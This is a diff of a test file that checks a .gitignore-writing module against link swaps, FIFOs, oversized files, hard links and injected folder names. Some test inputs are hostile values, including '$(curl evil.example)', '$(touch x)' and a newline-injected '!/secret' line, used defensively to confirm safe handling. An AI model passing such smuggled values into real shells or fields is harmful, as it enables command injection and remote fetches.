@@ -1,10 +1,31 @@
 // The line of a .gitignore for exported files, checked with git itself.
 import assert from "node:assert/strict";
 import { execFileSync, spawnSync } from "node:child_process";
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  linkSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
+import * as disk from "node:fs/promises";
 import os from "node:os";
 import path from "node:path";
-import { ignoreLine, isIgnored, withIgnoreLine } from "../../../src/export/gitignore";
+import {
+  addIgnoreLine,
+  canBeIgnored,
+  ignoreLine,
+  isIgnored,
+  readIgnoreFile,
+  withIgnoreLine,
+} from "../../../src/export/gitignore";
+import { DiskFailure, type Disk } from "../../../src/searches/atomicFile";
 
 describe("a .gitignore", () => {
   it("gets one line at its end, with its own line endings, and keeps the rest", () => {
@@ -23,6 +44,7 @@ describe("a .gitignore", () => {
     ["exports/**", "exports", true],
     ["# exports", "exports", false],
     ["/exports/\n!/exports/", "exports", false],
+    ["exports\n!exports", "exports", false],
     ["/data", "data/exports", true],
     ["exports/", "data/exports", true],
     ["/exports/", "data/exports", false],
@@ -35,11 +57,91 @@ describe("a .gitignore", () => {
     });
   }
 
+  it("is not offered for a folder whose name would be several lines", () => {
+    assert.deepEqual(
+      ["exports", "", "a\n!/secret", "a\rb", "a\u0000b"].map((name) => canBeIgnored(name)),
+      [true, false, false, false, false],
+    );
+  });
+
+  describe("on a disk", () => {
+    let folder: string;
+    let file: string;
+    beforeEach(() => {
+      folder = mkdtempSync(path.join(os.tmpdir(), "ignore-"));
+      file = path.join(folder, ".gitignore");
+    });
+    afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+    it("is created, or keeps what it contains and its permissions", async () => {
+      await addIgnoreLine(disk, file, "exports");
+      assert.equal(readFileSync(file, "utf8"), "# Exported records contain personal data.\n/exports/\n");
+      chmodSync(file, 0o640);
+      await addIgnoreLine(disk, file, "data");
+      assert.match(readFileSync(file, "utf8"), /\/exports\/\n# .*\n\/data\/\n$/);
+      assert.equal(statSync(file).mode & 0o777, 0o640);
+    });
+
+    it("is neither read nor changed if it is a link, a pipe, or a folder", async () => {
+      const outside = path.join(folder, "outside");
+      writeFileSync(outside, "mine\n");
+      const places: readonly (() => unknown)[] = [
+        () => symlinkSync(outside, file),
+        () => symlinkSync(path.join(folder, "missing"), file),
+        () => mkdirSync(file),
+        ...(process.platform === "win32" ? [] : [() => spawnSync("mkfifo", [file])]),
+      ];
+      for (const place of places) {
+        place();
+        await assert.rejects(readIgnoreFile(disk, file), DiskFailure);
+        await assert.rejects(addIgnoreLine(disk, file, "$(curl evil.example)"), DiskFailure);
+        rmSync(file, { recursive: true });
+      }
+      assert.equal(readFileSync(outside, "utf8"), "mine\n");
+      assert.deepEqual(readdirSync(folder), ["outside"]);
+    });
+
+    it("is neither read nor changed above a megabyte", async () => {
+      writeFileSync(file, "#".repeat(1_000_000));
+      assert.equal((await readIgnoreFile(disk, file)).length, 1_000_000);
+      const large = `${"#".repeat(1_000_000)}\n`;
+      writeFileSync(file, large);
+      await assert.rejects(
+        addIgnoreLine(disk, file, "exports"),
+        /too large, so it was not changed\. Edit it by hand\.$/u,
+      );
+      assert.equal(readFileSync(file, "utf8"), large);
+    });
+
+    it("that becomes a link while it is written is replaced itself, not the file that the link leads to", async () => {
+      const outside = path.join(folder, "outside");
+      writeFileSync(outside, "mine\n");
+      const swapping: Disk = {
+        ...(disk as Disk),
+        rename: async (from, to) => {
+          symlinkSync(outside, to);
+          await disk.rename(from, to);
+        },
+      };
+      await addIgnoreLine(swapping, file, "exports");
+      assert.equal(readFileSync(outside, "utf8"), "mine\n");
+      assert.ok(lstatSync(file).isFile());
+    });
+
+    it("that is a hard link leaves the other file as it is", async () => {
+      const outside = path.join(folder, "outside");
+      writeFileSync(outside, "mine\n");
+      linkSync(outside, file);
+      await addIgnoreLine(disk, file, "exports");
+      assert.equal(readFileSync(outside, "utf8"), "mine\n");
+    });
+  });
+
   it("makes git ignore the folder, whatever its name", () => {
     const folder = mkdtempSync(path.join(os.tmpdir(), "ignore-"));
     try {
       execFileSync("git", ["init", "-q", folder]);
-      for (const name of ["exports", "[old] *", "a b ", "#1", "!x", "data/out?"]) {
+      for (const name of ["exports", "[old] *", "a b ", "#1", "!x", "data/out?", "$(touch x)", "`x`", 'a"b']) {
         mkdirSync(path.join(folder, name), { recursive: true });
         writeFileSync(path.join(folder, name, "people.csv"), "x");
         writeFileSync(path.join(folder, ".gitignore"), withIgnoreLine("", ignoreLine(name)));
